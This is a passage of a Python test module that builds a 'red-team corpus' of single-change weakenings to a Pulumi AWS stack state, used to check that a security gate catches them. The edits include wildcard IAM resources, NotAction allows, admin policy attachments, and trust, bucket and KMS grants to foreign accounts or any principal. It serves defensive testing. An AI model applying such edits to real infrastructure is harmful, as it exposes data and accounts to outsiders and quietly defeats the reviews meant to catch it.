"""A red-team corpus of single-change weakenings of the demo stack state.

Written independently of the gate's own rules and of its mutation suite: each entry changes one
security-relevant fact of a `pulumi stack export` document (the way an attacker or a careless admin
would, and the way it would deploy: pulumi-aws v7 property names as they appear in the state) and
keeps everything else. Most are "the same weakening written another way": a wildcard that is not a
bare `*`, a NotAction allow, a trust in another principal form, a deny that is still there but no
longer matches, a service that exists but does not do its job, a network path added next to the
stack, a resource created outside every component.

A weakening edits the document in place; the runner hands each one its own deep copy.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import yaml

from glz.state import SECRET_SIG, SECRET_SIG_KEY

DOMAINS = (
    "policy-forms",
    "narrowed-deny",
    "hollow-services",
    "network-paths",
    "compute-escape",
    "data-protection",
    "tags-identity",
    "outside-resources",
)

FOREIGN = "999900001111"  # an account that is neither this stack's nor a collaborator's
FOREIGN_ROOT = f"arn:aws:iam::{FOREIGN}:root"
FOREIGN_ROLE = f"arn:aws:iam::{FOREIGN}:role/partner-sync"
CANONICAL_USER = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"

# Resource types, as pulumi-aws v7 spells them in the state.
ROLE = "aws:iam/role:Role"
ROLE_POLICY = "aws:iam/rolePolicy:RolePolicy"
POLICY = "aws:iam/policy:Policy"
ATTACHMENT = "aws:iam/rolePolicyAttachment:RolePolicyAttachment"
BUCKET = "aws:s3/bucket:Bucket"
BUCKET_POLICY = "aws:s3/bucketPolicy:BucketPolicy"
KEY = "aws:kms/key:Key"
TRAIL = "aws:cloudtrail/trail:Trail"
ALARM = "aws:cloudwatch/metricAlarm:MetricAlarm"
METRIC_FILTER = "aws:cloudwatch/logMetricFilter:LogMetricFilter"
LOG_GROUP = "aws:cloudwatch/logGroup:LogGroup"
JOB_DEFINITION = "aws:batch/jobDefinition:JobDefinition"
COMPUTE_ENV = "aws:batch/computeEnvironment:ComputeEnvironment"
LAUNCH_TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"
ROUTE_TABLE = "aws:ec2/routeTable:RouteTable"
SUBNET = "aws:ec2/subnet:Subnet"
VPC_ENDPOINT = "aws:ec2/vpcEndpoint:VpcEndpoint"
SG = "aws:ec2/securityGroup:SecurityGroup"
LIFECYCLE = "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration"
OBJECT_LOCK = "aws:s3/bucketObjectLockConfiguration:BucketObjectLockConfiguration"
EFS_POLICY = "aws:efs/fileSystemPolicy:FileSystemPolicy"
DETECTOR_FEATURE = "aws:guardduty/detectorFeature:DetectorFeature"
MALWARE_PLAN = "aws:guardduty/malwareProtectionPlan:MalwareProtectionPlan"
STANDARDS = "aws:securityhub/standardsSubscription:StandardsSubscription"

ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"


@dataclass(frozen=True)
class Weakening:
    id: str
    domain: str
    description: str
    apply: Callable[[dict], None]


# --------------------------------------------------------------------------------------------------
# Reading and editing a state document


def _is_secret(value: Any) -> bool:
    return isinstance(value, dict) and value.get(SECRET_SIG_KEY) == SECRET_SIG


def _unwrap(value: Any) -> Any:
    if _is_secret(value):
        return json.loads(value["plaintext"])
    return value


def _wrap(value: Any) -> dict:
    return {SECRET_SIG_KEY: SECRET_SIG, "plaintext": json.dumps(value)}


def get(resource: dict, key: str, default: Any = None) -> Any:
    """A property as the program set it (input if present, else output), secrets unwrapped."""
    for section in ("inputs", "outputs"):
        values = resource.get(section) or {}
        if key in values:
            return copy.deepcopy(_unwrap(values[key]))
    return default


def put(resource: dict, key: str, value: Any) -> None:
    """Set a property in inputs and outputs alike (a real export carries both), keeping secrecy."""
    for section in ("inputs", "outputs"):
        values = resource.setdefault(section, {})
        old = values.get(key)
        values[key] = _wrap(value) if _is_secret(old) else copy.deepcopy(value)


def drop(resource: dict, key: str) -> None:
    for section in ("inputs", "outputs"):
        (resource.get(section) or {}).pop(key, None)


def edit(resource: dict, key: str, fn: Callable[[Any], Any]) -> None:
    """Edit a structured property (dict or list) in place (fn mutates it; its return value is ignored)."""
    value = get(resource, key)
    fn(value)
    put(resource, key, value)


def edit_json(resource: dict, key: str, fn: Callable[[Any], Any]) -> None:
    """Edit a property held as a JSON string (IAM/bucket/key policies, containerProperties) in place."""
    document = json.loads(get(resource, key))
    fn(document)
    put(resource, key, json.dumps(document, sort_keys=True))


def fake_id(prefix: str, *parts: str, digits: int = 17) -> str:
    """A deterministic, plausible AWS resource ID."""
    return prefix + hashlib.sha256("/".join(parts).encode()).hexdigest()[:digits]


def statement(policy: dict, sid: str) -> dict:
    for stmt in policy["Statement"]:
        if stmt.get("Sid") == sid:
            return stmt
    raise KeyError(f"no statement {sid!r} in policy")


def as_list(value: Any) -> list:
    return list(value) if isinstance(value, list) else [value]


def policy_json(*statements: dict) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)}, sort_keys=True)


class Stack:
    """The resources of one state document, found by type and logical name."""

    def __init__(self, document: dict):
        self.document = document
        self.resources: list[dict] = document["deployment"]["resources"]

    @staticmethod
    def name_of(resource: dict) -> str:
        return resource["urn"].rsplit("::", 1)[-1]

    def find(self, typ: str, name: str) -> dict:
        found = [r for r in self.resources if r["type"] == typ and self.name_of(r) == name]
        if len(found) != 1:
            raise KeyError(f"expected one {typ} named {name!r}, found {len(found)}")
        return found[0]

    def all(self, typ: str) -> list[dict]:
        return [r for r in self.resources if r["type"] == typ]

    @property
    def stack_resource(self) -> dict:
        return next(r for r in self.resources if r["type"] == "pulumi:pulumi:Stack")

    @property
    def provider(self) -> dict:
        return next(r for r in self.resources if r["type"] == "pulumi:providers:aws")

    @property
    def account(self) -> str:
        return self.stack_resource["outputs"]["accountId"]

    @property
    def region(self) -> str:
        return get(self.provider, "region")

    def arn(self, typ: str, name: str) -> str:
        return self.find(typ, name)["outputs"]["arn"]

    def id(self, typ: str, name: str) -> str:
        return self.find(typ, name)["id"]

    def bucket(self, logical: str) -> str:
        """Bucket name of a logical bucket resource: data-<tier>, data-access-logs, audit-bucket."""
        return get(self.find(BUCKET, logical), "bucket")

    def bucket_arn(self, logical: str) -> str:
        return f"arn:aws:s3:::{self.bucket(logical)}"

    def key_arn(self, purpose: str) -> str:
        return self.arn(KEY, f"keys-{purpose}")

    def role_arn(self, logical: str) -> str:
        return self.arn(ROLE, logical)

    def add(
        self,
        typ: str,
        name: str,
        inputs: dict,
        *,
        resource_id: str,
        outputs: dict | None = None,
        parent: str | None = None,
        dependencies: tuple[str, ...] = (),
    ) -> dict:
        """Register a resource the way the Pulumi engine would record it (top level unless parent)."""
        stack_urn = self.stack_resource["urn"]
        prefix = stack_urn.split("::pulumi:pulumi:Stack::")[0]
        parent_urn = parent or stack_urn
        if parent_urn == stack_urn:
            qualified = typ
        else:
            parent_type = parent_urn.rsplit("::", 1)[0].rsplit("::", 1)[-1].rsplit("$", 1)[-1]
            qualified = f"{parent_type}${typ}"
        provider = self.provider
        entry = {
            "custom": True,
            "id": resource_id,
            "inputs": copy.deepcopy(inputs),
            "outputs": {**copy.deepcopy(inputs), "id": resource_id, **(outputs or {})},
            "parent": parent_urn,
            "provider": f"{provider['urn']}::{provider['id']}",
            "type": typ,
            "urn": f"{prefix}::{qualified}::{name}",
        }
        if dependencies:
            entry["dependencies"] = list(dependencies)
        self.resources.append(entry)
        return entry

    def remove(self, typ: str, name: str) -> None:
        self.resources.remove(self.find(typ, name))

    def urn(self, typ: str, name: str) -> str:
        return self.find(typ, name)["urn"]


WEAKENINGS: list[Weakening] = []


def weakening(wid: str, domain: str, description: str):
    """Register the decorated `fn(stack: Stack)` as a weakening of the state document."""
    assert domain in DOMAINS, domain

    def register(fn: Callable[[Stack], None]) -> Callable[[Stack], None]:
        WEAKENINGS.append(Weakening(wid, domain, description, lambda document: fn(Stack(document))))
        return fn

    return register


# Shorthands for frequent edits


def edit_policy(s: Stack, typ: str, name: str, fn: Callable[[dict], Any], key: str = "policy") -> None:
    edit_json(s.find(typ, name), key, fn)


def edit_statement(s: Stack, typ: str, name: str, sid: str, fn: Callable[[dict], None], key: str = "policy") -> None:
    edit_json(s.find(typ, name), key, lambda policy: fn(statement(policy, sid)))


def add_statement(s: Stack, typ: str, name: str, stmt: dict, key: str = "policy") -> None:
    edit_json(s.find(typ, name), key, lambda policy: policy["Statement"].append(stmt))


def edit_tags(s: Stack, typ: str, name: str, fn: Callable[[dict], None]) -> None:
    edit(s.find(typ, name), "tags", fn)


def edit_container(s: Stack, job: str, fn: Callable[[dict], None]) -> None:
    edit_json(s.find(JOB_DEFINITION, f"compute-job-definition-{job}"), "containerProperties", fn)


def attach(s: Stack, name: str, role_logical: str, policy_arn: str) -> None:
    role = s.find(ROLE, role_logical)
    s.add(
        ATTACHMENT,
        name,
        {"policyArn": policy_arn, "role": role["id"]},
        resource_id=f"{name}-5f3a9c1",
        parent=role["parent"],
        dependencies=(role["urn"],),
    )


def add_route(s: Stack, name: str, table: str, target: dict, destination: dict | None = None) -> None:
    route_table = s.find(ROUTE_TABLE, table)
    inputs = {"routeTableId": route_table["id"], **(destination or {"destinationCidrBlock": "0.0.0.0/0"}), **target}
    s.add(
        "aws:ec2/route:Route",
        name,
        inputs,
        resource_id=f"r-{route_table['id']}{fake_id('', name, digits=10)}",
        outputs={"origin": "CreateRoute", "state": "active"},
        dependencies=(route_table["urn"],),
    )


def add_ingress_rule(s: Stack, name: str, sg_logical: str, **rule: Any) -> None:
    group = s.find(SG, sg_logical)
    inputs = {"securityGroupId": group["id"], "description": "temporary access", **rule}
    s.add(
        "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
        name,
        inputs,
        resource_id=fake_id("sgr-", name),
        outputs={"arn": f"arn:aws:ec2:{s.region}:{s.account}:security-group-rule/{fake_id('sgr-', name)}"},
        dependencies=(group["urn"],),
    )


def data_key_id(s: Stack) -> str:
    return s.find(KEY, "keys-data")["id"]


# ==================================================================================================
# policy-forms: the same permission written in another form


@weakening(
    "pf-job-objects-s3-arn-wildcard",
    "policy-forms",
    "alignment job role reads objects of Resource arn:aws:s3:::* (every bucket) instead of its input tiers",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "compute-job-alignment-policy",
        "ReadInputTiersObjects",
        lambda st: st.update(Resource="arn:aws:s3:::*"),
    )


@weakening(
    "pf-job-objects-any-bucket-objects",
    "policy-forms",
    "variant-calling job role reads objects of arn:aws:s3:::*/* (every object in every bucket)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "compute-job-variant-calling-policy",
        "ReadInputTiersObjects",
        lambda st: st.update(Resource="arn:aws:s3:::*/*"),
    )


@weakening(
    "pf-job-write-any-partition",
    "policy-forms",
    "alignment job role writes to arn:*:s3:::* (any bucket, any partition) instead of its output tier",
)
def _(s: Stack) -> None:
    edit_statement(
        s, ROLE_POLICY, "compute-job-alignment-policy", "WriteOutputTier", lambda st: st.update(Resource="arn:*:s3:::*")
    )


@weakening(
    "pf-job-list-any-bucket", "policy-forms", "variant-calling job role may list every bucket (Resource arn:aws:s3:::*)"
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "compute-job-variant-calling-policy",
        "ReadInputTiersList",
        lambda st: st.update(Resource=["arn:aws:s3:::*"]),
    )


@weakening(
    "pf-collab-read-whole-bucket",
    "policy-forms",
    "collaborator broad-variant-lab reads bucket/* instead of its cohort-2026/ prefix",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "collaborators-broad-variant-lab-data-access",
        "ReadObjectsOfSequencingRuns",
        lambda st: st.update(Resource=[f"{s.bucket_arn('data-results')}/*", f"{s.bucket_arn('data-variants')}/*"]),
    )


@weakening(
    "pf-collab-write-whole-bucket",
    "policy-forms",
    "collaborator pharmaco-analytics writes bucket/* instead of its pharmacogenomics/ prefix",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "collaborators-pharmaco-analytics-data-access",
        "WriteObjects",
        lambda st: st.update(Resource=[f"{s.bucket_arn('data-results')}/*"]),
    )


@weakening(
    "pf-collab-read-landing-zone-glob",
    "policy-forms",
    "collaborator reads arn:aws:s3:::glz-demo-*/cohort-2026/* (every tier, incl. bcl and fastq)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "collaborators-broad-variant-lab-data-access",
        "ReadObjectsOfSequencingRuns",
        lambda st: st.update(Resource=["arn:aws:s3:::glz-demo-*/cohort-2026/*"]),
    )


@weakening(
    "pf-collab-list-prefix-condition-dropped",
    "policy-forms",
    "collaborator ListBucket without the s3:prefix condition: lists every key of results and variants",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "collaborators-broad-variant-lab-data-access",
        "ListAllowedPrefixes",
        lambda st: st.pop("Condition"),
    )


@weakening(
    "pf-collab-read-run-condition-dropped",
    "policy-forms",
    "collaborator object read without the SequencingRun tag condition (every run, not the shared ones)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "collaborators-broad-variant-lab-data-access",
        "ReadObjectsOfSequencingRuns",
        lambda st: st.pop("Condition"),
    )


@weakening(
    "pf-job-kms-any-key-in-account",
    "policy-forms",
    "alignment job role may use key/* (every KMS key of the account) instead of the data key",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "compute-job-alignment-policy",
        "UseDataKeyThroughS3",
        lambda st: st.update(Resource=f"arn:aws:kms:{s.region}:{s.account}:key/*"),
    )


@weakening(
    "pf-instance-kms-any-key-glob",
    "policy-forms",
    "instance role's EBS key statement on arn:aws:kms:*:*:key/* (data and logs keys too, directly)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE_POLICY,
        "compute-instance-role-policy",
        "UseComputeKeyForEbs",
        lambda st: st.update(Resource="arn:aws:kms:*:*:key/*"),
    )


@weakening(
    "pf-job-notresource-allow",
    "policy-forms",
    "alignment job role: Allow s3:GetObject with NotResource [audit bucket] (every other object anywhere)",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        ROLE_POLICY,
        "compute-job-alignment-policy",
        {
            "Sid": "ReadPipelineInputs",
            "Effect": "Allow",
            "Action": "s3:GetObject",
            "NotResource": [f"{s.bucket_arn('audit-bucket')}/*"],
        },
    )


@weakening(
    "pf-job-notaction-allow",
    "policy-forms",
    "variant-calling job role: Allow NotAction [iam:*, organizations:*] on * (everything else)",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        ROLE_POLICY,
        "compute-job-variant-calling-policy",
        {"Sid": "PipelineTooling", "Effect": "Allow", "NotAction": ["iam:*", "organizations:*"], "Resource": "*"},
    )


@weakening(
    "pf-instance-notaction-on-reference",
    "policy-forms",
    "instance role: a NotAction [DeleteObject] statement on reference objects (may overwrite them)",
)
def _(s: Stack) -> None:
    reference = "arn:aws:s3:::glz-demo-reference-111122223333-us-east-1/*"
    add_statement(
        s,
        ROLE_POLICY,
        "compute-instance-role-policy",
        {
            "Sid": "Ref",
            "Effect": "Allow",
            "NotAction": ["s3:DeleteObject", "s3:DeleteObjectVersion"],
            "Resource": reference,
        },
    )


@weakening(
    "pf-collab-notaction-objects",
    "policy-forms",
    "pharmaco collaborator: ReadObjects as NotAction s3:DeleteObject (ACLs, retention, restore...)",
)
def _(s: Stack) -> None:
    def change(st: dict) -> None:
        st.pop("Action")
        st["NotAction"] = "s3:DeleteObject"

    edit_statement(s, ROLE_POLICY, "collaborators-pharmaco-analytics-data-access", "ReadObjects", change)


@weakening(
    "pf-role-inline-admin",
    "policy-forms",
    "alignment job Role carries inlinePolicies (on the Role resource itself) allowing * on *",
)
def _(s: Stack) -> None:
    put(
        s.find(ROLE, "compute-job-alignment"),
        "inlinePolicies",
        [{"name": "debug-access", "policy": policy_json({"Effect": "Allow", "Action": "*", "Resource": "*"})}],
    )


@weakening(
    "pf-role-inline-s3-wildcard",
    "policy-forms",
    "collaborator Role carries an inline policy reading arn:aws:s3:::* (beside its RolePolicy)",
)
def _(s: Stack) -> None:
    put(
        s.find(ROLE, "collaborators-broad-variant-lab"),
        "inlinePolicies",
        [
            {
                "name": "bulk-download",
                "policy": policy_json(
                    {"Effect": "Allow", "Action": ["s3:GetObject", "s3:ListBucket"], "Resource": "arn:aws:s3:::*"}
                ),
            }
        ],
    )


@weakening(
    "pf-role-inline-kms-decrypt-all",
    "policy-forms",
    "instance Role carries an inline policy allowing kms:Decrypt on every key",
)
def _(s: Stack) -> None:
    put(
        s.find(ROLE, "compute-instance-role"),
        "inlinePolicies",
        [{"name": "decrypt", "policy": policy_json({"Effect": "Allow", "Action": "kms:Decrypt", "Resource": "*"})}],
    )


@weakening(
    "pf-role-managed-policy-arns-admin",
    "policy-forms",
    "variant-calling job Role lists AdministratorAccess in managedPolicyArns (no attachment resource)",
)
def _(s: Stack) -> None:
    put(s.find(ROLE, "compute-job-variant-calling"), "managedPolicyArns", [ADMIN_POLICY])


@weakening(
    "pf-attach-admin-to-job-role",
    "policy-forms",
    "RolePolicyAttachment of AdministratorAccess to the alignment job role",
)
def _(s: Stack) -> None:
    attach(s, "compute-job-alignment-admin", "compute-job-alignment", ADMIN_POLICY)


@weakening(
    "pf-attach-s3full-to-collaborator",
    "policy-forms",
    "RolePolicyAttachment of AmazonS3FullAccess to the pharmaco-analytics collaborator role",
)
def _(s: Stack) -> None:
    attach(
        s, "collaborators-pharmaco-s3", "collaborators-pharmaco-analytics", "arn:aws:iam::aws:policy/AmazonS3FullAccess"
    )


@weakening(
    "pf-attach-poweruser-to-instance",
    "policy-forms",
    "RolePolicyAttachment of PowerUserAccess to the Batch instance role",
)
def _(s: Stack) -> None:
    attach(s, "compute-instance-role-poweruser", "compute-instance-role", "arn:aws:iam::aws:policy/PowerUserAccess")


@weakening(
    "pf-attach-iamfull-to-auditor",
    "policy-forms",
    "RolePolicyAttachment of IAMFullAccess to the security auditor role (auditor can grant itself anything)",
)
def _(s: Stack) -> None:
    attach(s, "operators-auditor-iam", "operators-auditor", "arn:aws:iam::aws:policy/IAMFullAccess")


@weakening(
    "pf-swap-auditor-attachment-admin",
    "policy-forms",
    "auditor's SecurityAudit attachment now points at AdministratorAccess",
)
def _(s: Stack) -> None:
    put(s.find(ATTACHMENT, "operators-auditor-security-audit"), "policyArn", ADMIN_POLICY)


@weakening(
    "pf-swap-instance-attachment-s3full",
    "policy-forms",
    "instance role's AmazonSSMManagedInstanceCore attachment now points at AmazonS3FullAccess",
)
def _(s: Stack) -> None:
    put(
        s.find(ATTACHMENT, "compute-instance-role-AmazonSSMManagedInstanceCore"),
        "policyArn",
        "arn:aws:iam::aws:policy/AmazonS3FullAccess",
    )


@weakening(
    "pf-customer-policy-s3-star-attached",
    "policy-forms",
    "a customer managed Policy allowing s3:* on arn:aws:s3:::* attached to the variant-calling job role",
)
def _(s: Stack) -> None:
    name = "glz-demo-shared-data-access"
    s.add(
        POLICY,
        "shared-data-access",
        {
            "name": name,
            "description": "shared data access",
            "policy": policy_json(
                {"Effect": "Allow", "Action": "s3:*", "Resource": ["arn:aws:s3:::*", "arn:aws:s3:::*/*"]}
            ),
        },
        resource_id=f"arn:aws:iam::{s.account}:policy/{name}",
        outputs={"arn": f"arn:aws:iam::{s.account}:policy/{name}", "policyId": "ANPA3SHAREDDATA00001"},
    )
    attach(
        s,
        "shared-data-access-variant-calling",
        "compute-job-variant-calling",
        f"arn:aws:iam::{s.account}:policy/{name}",
    )


@weakening(
    "pf-boundary-aws-admin",
    "policy-forms",
    "collaborator role's permissions boundary is the AWS managed AdministratorAccess (bounds nothing)",
)
def _(s: Stack) -> None:
    put(s.find(ROLE, "collaborators-broad-variant-lab"), "permissionsBoundary", ADMIN_POLICY)


@weakening(
    "pf-boundary-poweruser",
    "policy-forms",
    "collaborator role's permissions boundary is the AWS managed PowerUserAccess",
)
def _(s: Stack) -> None:
    put(
        s.find(ROLE, "collaborators-pharmaco-analytics"),
        "permissionsBoundary",
        "arn:aws:iam::aws:policy/PowerUserAccess",
    )


@weakening(
    "pf-boundary-policy-allow-all", "policy-forms", "collaborator boundary Policy document rewritten to Allow * on *"
)
def _(s: Stack) -> None:
    edit_policy(
        s,
        POLICY,
        "collaborators-broad-variant-lab-boundary",
        lambda p: p.update(Statement=[{"Sid": "BoundaryAll", "Effect": "Allow", "Action": "*", "Resource": "*"}]),
    )


@weakening(
    "pf-boundary-objects-any-bucket",
    "policy-forms",
    "collaborator boundary allows its object actions on arn:aws:s3:::*/*",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        POLICY,
        "collaborators-pharmaco-analytics-boundary",
        "BoundaryObjects",
        lambda st: st.update(Resource=["arn:aws:s3:::*/*"]),
    )


@weakening(
    "pf-boundary-swapped-to-read-write",
    "policy-forms",
    "read-only collaborator bounded by the read-write collaborator's boundary (may write results)",
)
def _(s: Stack) -> None:
    put(
        s.find(ROLE, "collaborators-broad-variant-lab"),
        "permissionsBoundary",
        s.arn(POLICY, "collaborators-pharmaco-analytics-boundary"),
    )


@weakening("pf-boundary-removed", "policy-forms", "collaborator role without its permissions boundary")
def _(s: Stack) -> None:
    drop(s.find(ROLE, "collaborators-pharmaco-analytics"), "permissionsBoundary")


@weakening(
    "pf-trust-assumed-role-session-foreign",
    "policy-forms",
    "collaborator trust names an assumed-role session ARN of a foreign account (arn:aws:sts::...)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE,
        "collaborators-broad-variant-lab",
        "CollaboratorAssumesWithExternalId",
        lambda st: st.update(Principal={"AWS": f"arn:aws:sts::{FOREIGN}:assumed-role/research-ops/jdoe"}),
        key="assumeRolePolicy",
    )


@weakening(
    "pf-trust-collab-saml-federated",
    "policy-forms",
    "collaborator trust replaced by a SAML provider (Federated, AssumeRoleWithSAML): no ExternalId, no MFA",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE,
        "collaborators-broad-variant-lab",
        "CollaboratorAssumesWithExternalId",
        lambda st: st.update(
            Principal={"Federated": f"arn:aws:iam::{s.account}:saml-provider/PartnerIdP"},
            Action="sts:AssumeRoleWithSAML",
            Condition={"StringEquals": {"SAML:aud": "https://signin.aws.amazon.com/saml"}},
        ),
        key="assumeRolePolicy",
    )


@weakening(
    "pf-trust-job-oidc-any-repo",
    "policy-forms",
    "alignment job role trusts GitHub OIDC (AssumeRoleWithWebIdentity) for sub repo:* (any repository)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE,
        "compute-job-alignment",
        "EcsTasksAssumeJobRole",
        lambda st: st.update(
            Principal={"Federated": f"arn:aws:iam::{s.account}:oidc-provider/token.actions.githubusercontent.com"},
            Action="sts:AssumeRoleWithWebIdentity",
            Condition={"StringLike": {"token.actions.githubusercontent.com:sub": "repo:*"}},
        ),
        key="assumeRolePolicy",
    )


@weakening(
    "pf-trust-auditor-cognito-unauthenticated",
    "policy-forms",
    "auditor trust adds Cognito identity (Federated) for unauthenticated identities",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        ROLE,
        "operators-auditor",
        {
            "Sid": "DashboardIdentityPool",
            "Effect": "Allow",
            "Action": "sts:AssumeRoleWithWebIdentity",
            "Principal": {"Federated": "cognito-identity.amazonaws.com"},
            "Condition": {
                "StringEquals": {
                    "cognito-identity.amazonaws.com:aud": f"{s.region}:0b6c1f2e-7c55-4b8f-9f5e-2d1c3b4a5e6f"
                },
                "ForAnyValue:StringLike": {"cognito-identity.amazonaws.com:amr": "unauthenticated"},
            },
        },
        key="assumeRolePolicy",
    )


@weakening(
    "pf-trust-collab-bare-account",
    "policy-forms",
    "collaborator trust principal is the bare account ID 777788889999 (any principal there)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE,
        "collaborators-pharmaco-analytics",
        "CollaboratorAssumesWithExternalId",
        lambda st: st.update(Principal={"AWS": "777788889999"}),
        key="assumeRolePolicy",
    )


@weakening(
    "pf-trust-collab-account-root",
    "policy-forms",
    "collaborator trust principal is arn:aws:iam::444455556666:root instead of the named role",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE,
        "collaborators-broad-variant-lab",
        "CollaboratorAssumesWithExternalId",
        lambda st: st.update(Principal={"AWS": "arn:aws:iam::444455556666:root"}),
        key="assumeRolePolicy",
    )


@weakening(
    "pf-trust-collab-aws-list-star",
    "policy-forms",
    'collaborator trust principal {"AWS": ["*"]}: anyone who learns the ExternalId',
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        ROLE,
        "collaborators-broad-variant-lab",
        "CollaboratorAssumesWithExternalId",
        lambda st: st.update(Principal={"AWS": ["*"]}),
        key="assumeRolePolicy",
    )


@weakening(
    "pf-trust-job-role-foreign-bare-account",
    "policy-forms",
    "variant-calling job role trust gains a statement for the bare foreign account ID",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        ROLE,
        "compute-job-variant-calling",
        {"Sid": "VendorSupport", "Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": FOREIGN}},
        key="assumeRolePolicy",
    )


@weakening(
    "pf-bucket-grant-canonical-user",
    "policy-forms",
    "variants bucket policy allows s3:GetObject to a CanonicalUser principal",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        BUCKET_POLICY,
        "data-variants-policy",
        {
            "Sid": "PartnerDownload",
            "Effect": "Allow",
            "Principal": {"CanonicalUser": CANONICAL_USER},
            "Action": "s3:GetObject",
            "Resource": f"{s.bucket_arn('data-variants')}/*",
        },
    )


@weakening(
    "pf-bucket-grant-foreign-root",
    "policy-forms",
    "results bucket policy allows a foreign account root to list and read",
)
def _(s: Stack) -> None:
    arn = s.bucket_arn("data-results")
    add_statement(
        s,
        BUCKET_POLICY,
        "data-results-policy",
        {
            "Sid": "PartnerRead",
            "Effect": "Allow",
            "Principal": {"AWS": FOREIGN_ROOT},
            "Action": ["s3:GetObject", "s3:ListBucket"],
            "Resource": [arn, f"{arn}/*"],
        },
    )


@weakening(
    "pf-bucket-grant-foreign-bare-account",
    "policy-forms",
    "alignments bucket policy allows s3:* to the bare foreign account ID",
)
def _(s: Stack) -> None:
    arn = s.bucket_arn("data-alignments")
    add_statement(
        s,
        BUCKET_POLICY,
        "data-alignments-policy",
        {
            "Sid": "Mirror",
            "Effect": "Allow",
            "Principal": {"AWS": FOREIGN},
            "Action": "s3:*",
            "Resource": [arn, f"{arn}/*"],
        },
    )


@weakening(
    "pf-bucket-grant-star-foreign-condition",
    "policy-forms",
    "fastq bucket policy allows Principal * s3:GetObject when aws:PrincipalAccount is a foreign account",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        BUCKET_POLICY,
        "data-fastq-policy",
        {
            "Sid": "SequencingProviderRead",
            "Effect": "Allow",
            "Principal": "*",
            "Action": "s3:GetObject",
            "Resource": f"{s.bucket_arn('data-fastq')}/*",
            "Condition": {"StringEquals": {"aws:PrincipalAccount": FOREIGN}},
        },
    )


@weakening(
    "pf-bucket-grant-foreign-role-list-form",
    "policy-forms",
    "bcl bucket policy allows PutObject to a foreign role given as a one-element list",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        BUCKET_POLICY,
        "data-bcl-policy",
        {
            "Sid": "SequencerUpload",
            "Effect": "Allow",
            "Principal": {"AWS": [f"arn:aws:iam::{FOREIGN}:role/sequencer"]},
            "Action": ["s3:PutObject"],
            "Resource": [f"{s.bucket_arn('data-bcl')}/*"],
        },
    )


@weakening("pf-key-grant-foreign-root", "policy-forms", "data key policy allows kms:Decrypt to a foreign account root")
def _(s: Stack) -> None:
    add_statement(
        s,
        KEY,
        "keys-data",
        {
            "Sid": "PartnerDecrypt",
            "Effect": "Allow",
            "Principal": {"AWS": FOREIGN_ROOT},
            "Action": ["kms:Decrypt", "kms:DescribeKey"],
            "Resource": "*",
        },
    )


@weakening(
    "pf-key-grant-foreign-bare", "policy-forms", "logs key policy allows kms:Decrypt to the bare foreign account ID"
)
def _(s: Stack) -> None:
    add_statement(
        s,
        KEY,
        "keys-logs",
        {
            "Sid": "SiemDecrypt",
            "Effect": "Allow",
            "Principal": {"AWS": FOREIGN},
            "Action": "kms:Decrypt",
            "Resource": "*",
        },
    )


@weakening(
    "pf-key-grant-star-caller-account",
    "policy-forms",
    "compute key policy allows Principal * kms:* when kms:CallerAccount is a foreign account",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        KEY,
        "keys-compute",
        {
            "Sid": "SharedAmis",
            "Effect": "Allow",
            "Principal": {"AWS": "*"},
            "Action": "kms:*",
            "Resource": "*",
            "Condition": {"StringEquals": {"kms:CallerAccount": FOREIGN}},
        },
    )


@weakening(
    "pf-key-grant-star-via-s3",
    "policy-forms",
    "data key policy allows Principal * kms:Decrypt through S3 (any principal of any account)",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        KEY,
        "keys-data",
        {
            "Sid": "DecryptThroughS3",
            "Effect": "Allow",
            "Principal": {"AWS": "*"},
            "Action": "kms:Decrypt",
            "Resource": "*",
            "Condition": {"StringEquals": {"kms:ViaService": f"s3.{s.region}.amazonaws.com"}},
        },
    )


def _grant(s: Stack, name: str, key: str, grantee: str, operations: list[str], **extra: Any) -> None:
    key_resource = s.find(KEY, f"keys-{key}")
    s.add(
        "aws:kms/grant:Grant",
        name,
        {"keyId": key_resource["id"], "granteePrincipal": grantee, "operations": operations, "name": name, **extra},
        resource_id=f"{key_resource['id']}:6c9ef4b2a1d0e3f5",
        outputs={"grantId": "6c9ef4b2a1d0e3f5", "grantToken": "AQpAM2RhZTk1MGMyNTk2ZmZm"},
        dependencies=(key_resource["urn"],),
    )


@weakening("pf-kms-grant-foreign-role", "policy-forms", "KMS Grant on the data key to a foreign role (Decrypt)")
def _(s: Stack) -> None:
